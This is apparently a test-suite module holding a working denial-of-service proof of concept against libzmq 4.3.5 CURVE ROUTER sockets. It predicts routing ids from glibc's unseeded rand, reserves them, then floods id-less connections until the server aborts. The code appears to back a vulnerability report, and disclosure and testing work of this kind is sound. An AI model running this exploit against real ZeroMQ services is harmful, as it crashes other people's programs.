"""The attack that ends a program with a ROUTER of libzmq 4.3.5, without any secret.

    python -m tests.attacks.router_abort serve
    python -m tests.attacks.router_abort attack HOST PORT KEY [--source ADDRESS]

``serve`` is such a program: it prints the port and the key of a ROUTER with CURVE, and receives.
``attack`` holds a connection whose routing id is the one that the ROUTER will soon make up for
somebody else, and then connects without an id until the counter arrives there. The counter starts
at the same number in every process that does not seed the C library. docs/LIBZMQ-REPORT.md tells
more. It prints how many connections stood in the end.
"""

import struct
from argparse import ArgumentParser
from contextlib import ExitStack, suppress

import zmq

from smallworld_net.keys import KeyPair
from tests.helpers.curve import CurveClient

FIRST = 0x6B8B4567
"""The first value of glibc's unseeded ``rand``."""
AHEAD = 20
WITHOUT_ID = 60
DEALER = b"\x0bSocket-Type\x00\x00\x00\x06DEALER"


def serve() -> None:
    """A server as libzmq's guide has it, until it is ended."""
    keys = KeyPair.new()
    with zmq.Context[zmq.Socket[bytes]]() as context, context.socket(zmq.ROUTER) as router:
        router.curve_server = True
        router.curve_publickey, router.curve_secretkey = keys
        port = router.bind_to_random_port("tcp://127.0.0.1")
        print(f"serving {port} {keys.public.decode()}", flush=True)
        while True:
            router.recv_multipart()


def attack(host: str, port: int, key: bytes, source: str = "") -> int:
    """Hold the id, and connect without one; how many of these connections stood."""
    stood = 0
    with ExitStack() as held:

        def connect(identity: bytes) -> None:
            client = held.enter_context(CurveClient(host, port, key, source=source))
            about = struct.pack(">B8sI", 8, b"Identity", len(identity)) + identity
            client.handshake(DEALER + about)

        with suppress(OSError):
            for ahead in range(AHEAD, AHEAD + 3):
                connect(b"\0" + (FIRST + ahead).to_bytes(4))
            for _ in range(WITHOUT_ID):
                connect(b"")
                stood += 1
    return stood


def main() -> None:
    parser = ArgumentParser(prog="python -m tests.attacks.router_abort")
    parser.add_argument("part", choices=["serve", "attack"])
    parser.add_argument("place", nargs="*", metavar="HOST PORT KEY")
    parser.add_argument("--source", default="")
    args = parser.parse_args()
    if args.part == "serve":
        serve()
    elif len(args.place) != 3:
        parser.error("an attack needs HOST, PORT and KEY")
    host, port, key = args.place
    print(f"stood {attack(host, int(port), key.encode(), args.source)}", flush=True)


if __name__ == "__main__":
    main()
